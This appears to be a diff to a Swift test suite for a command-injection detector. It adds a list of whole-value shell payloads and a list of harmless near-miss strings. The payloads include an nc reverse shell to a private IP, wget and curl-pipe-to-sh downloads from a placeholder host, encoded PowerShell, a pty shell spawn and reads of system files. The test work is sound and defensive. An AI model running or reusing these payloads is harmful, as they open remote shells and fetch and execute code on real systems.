@@ -61,6 +61,13 @@ import Testing
         ";cat /etc/group|base64", ";id>&2", "x;ls -la /home", "x;find / -name '*.conf'", ";touch /tmp/pwn",
         ";chmod +x /tmp/s;/tmp/s", ";./s.sh", "x; head -n 3 /etc/group", ";crontab -l", "|| sleep 3 &",
         "%250aid", "x%253Bid", "%26%26whoami",
+        // whole-value commands (the parameter is passed to a shell as is)
+        "cat /etc/group", "whoami", "uname -a", "ls -la /", "nc -e /bin/sh 10.0.0.5 4444", "wget http://e.example/x.sh -O /tmp/x.sh",
+        "curl http://e.example/x | sh", "ping -c 10 127.0.0.1", "sleep 5", "powershell -enc SQBFAFgA", "cmd /c dir",
+        "net user", "type c:\\windows\\win.ini", "/bin/cat /etc/group", "cat$IFS/etc/group",
+        "python -c 'import pty;pty.spawn(\"/bin/sh\")'", "php -r 'system(\"id\");'", "id;", "ifconfig -a",
+        "echo aWQ= | base64 -d | bash", "rm -rf /tmp/x", "netstat -tulpn", "ps -ef", "whoami /all", "ipconfig /all",
+        "tasklist /v", "systeminfo", "bash -c id", "sh -i", "nslookup e.example", "dir c:\\", "cat /proc/version",
         // fourth batch
         "x;c${u}at /etc/group", "x;ca$@t /etc/group", "x|`echo${IFS}aWQ=|base64${IFS}-d`", "x;$(rev<<<'di')",
         "x;echo${IFS}-e${IFS}'\\x69\\x64'|sh", "x;cat /etc/gr[o]up", "x;cat /etc/gro?p", "x;tac /etc/group",
@@ -105,6 +112,10 @@ import Testing
         "x=1&y=2", "a | b | c", "R&B", "Mum & Dad; Grandma & Grandpa", "the id of the user",
         "deals; more > $5 off", "ratio; time > 5 min", "1 & 2 > 3", "pros; cons < /2", "kill the lights; sleep -ish",
         "see ./README.md for more", "A=1; B=2", "ps: see you", "size > 10 & < 20", "one; two > three",
+        "I cat my thoughts; sleep on it", "make sure & check", "who am i", "the ls command lists files",
+        "Terms & Conditions; Privacy | Cookies", "Sun & Moon | Stars", "ping pong", "find me", "sort by name",
+        "He said: \"I'm done; bye\"", "a;b;c", "1;2;3", "x|y|z", "key=value;other=thing", "N/A", "TBD; see notes",
+        "R&D | Sales & Marketing", "Hello; how are you?", "date & time", "head & shoulders", "dir: left",
     ]
 
     @Test(arguments: nearMisses)
